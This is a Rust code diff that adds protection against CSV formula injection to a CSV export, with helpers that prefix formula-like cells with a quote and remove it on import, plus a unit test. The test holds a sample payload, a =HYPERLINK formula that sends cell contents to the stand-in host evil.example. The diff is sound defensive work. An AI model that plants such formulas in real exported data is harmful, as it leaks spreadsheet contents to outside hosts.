@@ -326,7 +326,9 @@ pub fn to_csv(grid: &Grid) -> Result<Vec<u8>> {
         .from_writer(Vec::new());
     writer.write_record(&grid.header).map_err(failed)?;
     for row in &grid.rows {
-        writer.write_record(row).map_err(failed)?;
+        writer
+            .write_record(row.iter().map(|cell| defuse_formula(cell).into_owned()))
+            .map_err(failed)?;
     }
     writer.into_inner().map_err(|e| CoreError::Report {
         message: format!("cannot write CSV: {e}"),
@@ -343,7 +345,32 @@ pub fn file_name(project: &str, table: ExportTable, format: TableFormat) -> Stri
     )
 }
 
-/// The bytes of `table` in `format`.
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection"):
+/// `=`, `+`, `-`, `@`, and a leading tab or carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A CSV cell that a spreadsheet shows as the text it is: one starting like a formula gets a
+/// leading `'`, as OWASP recommends, so `=HYPERLINK(…)` in a gap title is never run. Markdown
+/// and project files keep the text exact; [`restore_formula`] undoes this.
+pub fn defuse_formula(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// The text of a CSV cell written by [`defuse_formula`]: the `'` it added is taken off again,
+/// so a CSV export read back (the CSV import) is exactly what was written.
+pub fn restore_formula(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => cell,
+    }
+}
+
+/// The bytes of `table` in `format`; CSV cells that look like formulas are defused (see
+/// [`defuse_formula`]).
 ///
 /// # Errors
 /// As [`to_csv`].
@@ -386,6 +413,39 @@ mod tests {
             "# Atlas — North Star alignment\n\n| Goal | Metric |\n|---|---|\n\
              | Keep \\| up | line one<br>line two |\n|  | x |\n"
         );
+    }
+
+    #[test]
+    fn csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
+        let grid = Grid {
+            header: strings(&["Title"]),
+            rows: vec![
+                strings(&["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]),
+                strings(&["+1"]),
+                strings(&["-2"]),
+                strings(&["@SUM(A1)"]),
+                strings(&["\tx"]),
+                strings(&["\rx"]),
+                strings(&["plain = text"]),
+                strings(&["'quoted already"]),
+            ],
+        };
+        let csv = to_csv(&grid).expect("csv");
+        let mut reader = csv::Reader::from_reader(csv.as_slice());
+        let cells: Vec<String> = reader
+            .records()
+            .map(|r| r.expect("record")[0].to_owned())
+            .collect();
+        for cell in &cells[..6] {
+            assert!(cell.starts_with('\''), "{cell:?} is defused");
+        }
+        assert_eq!(cells[6], "plain = text");
+        assert_eq!(cells[7], "'quoted already");
+        let back: Vec<&str> = cells.iter().map(|c| restore_formula(c)).collect();
+        let original: Vec<&str> = grid.rows.iter().map(|r| r[0].as_str()).collect();
+        assert_eq!(back, original, "the CSV import undoes it exactly");
+        let markdown = to_markdown("P", ExportTable::Gaps, &grid);
+        assert!(markdown.contains("| =HYPERLINK("), "Markdown keeps the text exact");
     }
 
     #[test]
